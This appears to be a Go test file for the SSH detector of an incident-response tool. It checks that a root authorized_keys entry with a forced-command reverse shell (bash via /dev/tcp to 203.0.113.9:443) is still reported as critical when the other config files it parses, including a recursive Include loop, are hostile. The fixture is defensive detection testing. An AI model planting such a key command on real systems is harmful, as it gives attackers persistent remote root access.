package ssh

import (
	"testing"

	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
)

// TestHostileInput: hostile versions of every file the check parses leave
// a key with a forced reverse shell in root's authorized_keys reported.
func TestHostileInput(t *testing.T) {
	enginetest.Hostile{
		Detector: New(),
		Root: func(t testing.TB) string {
			return fixture(t, "-- root/.ssh/authorized_keys --\ncommand=\"bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1' &\",no-pty ssh-ed25519 "+keyAttacker+" backup\n")
		},
		Trace: []enginetest.Want{{Rule: ruleKeyCommand, Subject: "root command=", Severity: model.Critical, Indicators: []string{"reverse-shell.dev-tcp"}}},
		Files: []string{"/root/.ssh/authorized_keys", "/etc/ssh/sshd_config", "/etc/ssh/sshd_config.d/", "/root/.ssh/config",
			"/root/.ssh/environment", "/etc/ssh/ssh_config", "/etc/ssh/ssh_config.d/", "/etc/passwd"},
		Needs: []string{"/root/.ssh/authorized_keys"},
		Extra: map[string]string{"include-loop": "Include /etc/ssh/sshd_config\nInclude /etc/ssh/sshd_config.d/*\nInclude sshd_config.d/../sshd_config\nMatch all\nInclude /etc/ssh/sshd_config\n"},
	}.Run(t)
}
